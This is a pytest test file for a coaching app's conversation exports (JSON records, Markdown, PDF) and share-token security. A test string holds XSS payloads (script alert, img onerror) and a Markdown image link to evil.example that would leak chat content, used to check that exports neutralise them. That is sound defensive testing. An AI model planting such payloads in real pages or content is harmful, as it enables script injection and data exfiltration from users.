"""Exports of a conversation: the JSON record (lossless, versioned), Markdown and PDF; share tokens."""

import hmac
import io
import json
import math
from collections import Counter

import pytest
from pypdf import PdfReader

import coach.records.share_tokens as share_tokens
from coach.diagnostic.summary import build_summary, dimension_names
from coach.errors import BadInput
from coach.readiness.model import load_model
from coach.readiness.rules import assess_evidence
from coach.records.pdf import pdf_bytes
from coach.records.transcript import RECORD_SCHEMA, markdown, read_record, record, record_json
from tests.support.store_support import sample_conversation

HOSTILE = 'Hallo <script>alert("x")</script> ![leak](https://evil.example/?q=chat) <img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def model():
    from coach.config import Settings

    return load_model(Settings().readiness_file)


def finished(model, text: str = "Wir posten dreimal pro Woche – ist das eine Strategie?"):
    """A conversation with a diagnostic summary (next steps without retrieved passages)."""
    conversation = sample_conversation(text)
    assessment = assess_evidence(list(conversation.dialogue.evidence), ["Eines Tages wollen wir mehr."])
    conversation.summary = build_summary(model, assessment, "de", lambda text, key, lang: None)
    return conversation


def test_the_json_record_round_trips_losslessly(model):
    conversation = finished(model)
    restored = read_record(record_json(model, conversation))
    assert restored == conversation
    assert record_json(model, restored) != "" and record(model, restored, "t") == record(model, conversation, "t")


def test_the_json_record_is_versioned_and_readable(model):
    document = json.loads(record_json(model, finished(model)))
    assert document["schema"] == RECORD_SCHEMA and document["version"] == 1
    assert document["summary"]["stage_key"] in {"not_started", "bolt_on", "optimizing_social", "optimizing_business"}
    assert document["conversation"]["turns"][0]["text"].startswith("Wir posten")


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        ("", "not valid JSON"),
        ("{not json", "not valid JSON"),
        ("[1, 2]", "not a conversation export"),
        ('{"schema": "other", "version": 1}', "not a conversation export"),
        (f'{{"schema": "{RECORD_SCHEMA}"}}', "must be a whole number"),
        (f'{{"schema": "{RECORD_SCHEMA}", "version": 99, "conversation": {{}}}}', "reads up to version 1"),
        (f'{{"schema": "{RECORD_SCHEMA}", "version": 1, "conversation": {{"turns": "x"}}}}', "turns"),
        (f'{{"schema": "{RECORD_SCHEMA}", "version": 1, "conversation": {{"lang": "fr"}}}}', "lang"),
        (b"\xff\xfe\x00garbage", "not valid JSON"),
    ],
)
def test_a_broken_record_is_bad_input_with_the_reason(raw, reason):
    with pytest.raises(BadInput, match=reason):
        read_record(raw)


def test_a_record_with_evidence_out_of_range_is_refused(model):
    document = json.loads(record_json(model, finished(model)))
    document["conversation"]["dialogue"]["evidence"][0]["level"] = 7
    with pytest.raises(BadInput, match="outside 0-3"):
        read_record(json.dumps(document))


def test_markdown_has_the_summary_on_top_and_the_transcript_inert(model):
    conversation = finished(model, HOSTILE)
    text = markdown(model, conversation)
    assert text.index("## Zusammenfassung") < text.index("## Verlauf")
    assert "Ihre Stufe" in text and "Strategie (Kern, de)" in text
    assert "<script>" not in text and "<img" not in text and "](https://" not in text
    assert "&lt;script&gt;" in text


def test_markdown_ends_a_notice_before_the_sources_and_dimension_lists_use_semicolons(model):
    conversation = finished(model)
    answer = next(turn for turn in conversation.turns if turn.sources)
    answer.notices = ["Ich habe die Frage so verstanden: „…“"]
    lines = markdown(model, conversation).splitlines()
    notice = lines.index("> Ich habe die Frage so verstanden: „…“")
    assert lines[notice + 1] == "" and lines[notice + 2].startswith("**Quellen:**")
    listed = dimension_names(model, ["resources", "integration"], "de")
    assert listed == "Ressourcen: Budget, Personal, Tools, Kompetenzen; Integration in Geschäftsprozesse"


def test_markdown_without_a_diagnostic_says_so(model):
    conversation = sample_conversation()
    conversation.dialogue = None
    assert "Noch keine Diagnose-Zusammenfassung" in markdown(model, conversation)


def pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_the_pdf_opens_and_holds_the_stage_umlauts_and_the_transcript(model):
    conversation = finished(model, "Grüße aus Köln: Wir posten dreimal pro Woche. Ελληνικά, русский.")
    data = pdf_bytes(model, conversation)
    assert data.startswith(b"%PDF-")
    text = pdf_text(data)
    stage = model.stage(conversation.summary.assessment.stage)
    assert stage.name("de") in " ".join(text.split())
    for expected in ("Grüße aus Köln", "Ελληνικά", "русский", "Niemand ist zuständig", "Verlauf"):
        assert expected in text


def test_the_pdf_prints_markup_as_typed(model):
    text = pdf_text(pdf_bytes(model, finished(model, HOSTILE)))
    assert '<script>alert("x")</script>' in text and "![leak](https://evil.example/?q=chat)" in text


def test_the_pdf_of_an_empty_conversation_is_still_a_document(model):
    conversation = sample_conversation()
    conversation.turns, conversation.dialogue = [], None
    assert "Noch keine Nachrichten" in pdf_text(pdf_bytes(model, conversation))


# -- share tokens ------------------------------------------------------------------------------------


def test_tokens_are_long_random_and_url_safe():
    tokens = [share_tokens.new_token() for _ in range(200)]
    assert len(set(tokens)) == 200
    assert all(share_tokens.well_formed(token) for token in tokens)
    # 43 characters of a 64-letter alphabet: 258 bits of encoding, 256 from `secrets`.
    assert len(tokens[0]) * math.log2(64) >= 256
    letters = Counter("".join(tokens))
    assert len(letters) > 60  # the whole alphabet is in use, not a few letters


def test_no_token_starts_like_a_command_line_option(monkeypatch: pytest.MonkeyPatch):
    draws = iter(["-" + "a" * 42, "-" + "b" * 42, "c" * 43])
    monkeypatch.setattr(share_tokens.secrets, "token_urlsafe", lambda size: next(draws))
    assert share_tokens.new_token() == "c" * 43


def test_the_hash_is_not_the_token_and_matches_only_it():
    token, other = share_tokens.new_token(), share_tokens.new_token()
    digest = share_tokens.token_hash(token)
    assert token not in digest and len(digest) == 64
    assert share_tokens.matches(token, digest)
    assert not share_tokens.matches(other, digest)
    assert not share_tokens.matches(token[:-1], digest)


def test_tokens_are_compared_in_constant_time(monkeypatch):
    calls, original = [], hmac.compare_digest

    def recording(left, right):
        calls.append((left, right))
        return original(left, right)

    monkeypatch.setattr(share_tokens.hmac, "compare_digest", recording)
    token = share_tokens.new_token()
    assert share_tokens.matches(token, share_tokens.token_hash(token))
    assert calls == [(share_tokens.token_hash(token), share_tokens.token_hash(token))]
